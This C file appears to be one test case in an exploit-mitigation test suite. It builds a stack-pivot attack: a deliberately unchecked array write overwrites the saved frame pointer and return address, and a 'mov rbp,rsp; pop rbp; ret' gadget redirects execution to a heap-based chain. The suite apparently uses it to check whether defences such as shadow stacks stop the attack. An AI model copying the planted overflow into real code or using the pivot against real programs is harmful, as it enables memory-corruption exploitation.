/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * A stack of the attacker's: the saved frame pointer and the return address, written apart from a stack protector's
 * guard, have a gadget move the stack pointer to data that the attacker has sent, where the chain goes on.
 */
#include "attacks.h"

static struct attack_frame frame;

/* The mistake: nobody checks first. */
static NOINLINE uint64_t set_range(size_t first, uint64_t lower, uint64_t upper)
{
	uint64_t range[6] = { 0 };
	uint64_t *all = attack_opaque(&range[0]);

	attack_frame_note(&frame, range);
	all[first] = lower;
	all[first + 1] = upper;
	return all[0] + all[5];
}

/* So that what is overwritten is a frame of the attacked code, too. */
static NOINLINE uint64_t serve(size_t first, uint64_t lower, uint64_t upper)
{
	return set_range(first, lower, upper) + 1;
}

static bool benign(const struct attack *attack)
{
	return serve(0, 1, 2) == 2;
}

static void run(const struct attack *attack)
{
	/* mov %rbp, %rsp; pop %rbp; ret */
	static const uint8_t pivot[] = { 0x48, 0x89, 0xec, 0x5d, 0xc3 };
	uintptr_t gadget = attack_gadget(pivot, sizeof(pivot)), slide = attack_leaked_slide(), stack;
	/* Room for what the goal needs of a stack, then the frame pointer and the return address that are popped. */
	static uint64_t chain[512];

	if (!gadget)
		attack_not_applicable(attack, "the image has no gadget that moves RBP to RSP");
	chain[501] = attack_linked_code(attack_goal) + slide;
	stack = attack_leaked_heap(chain, sizeof(chain));
	if (!stack)
		attack_failed(attack, "no memory");
	benign(attack);
	attack_primitive(attack);
	serve((size_t)frame.to_frame_pointer / 8, stack + 500 * 8, gadget + slide);
}

ATTACK(stack_pivot, .family = "code reuse", .primitive = RELATIVE_WRITE, .knowledge = LAYOUT_LEAKED,
       .stopped_by = "shadowstack", .about = "saved frame pointer and return address move the stack to the heap",
       .run = run, .benign = benign);
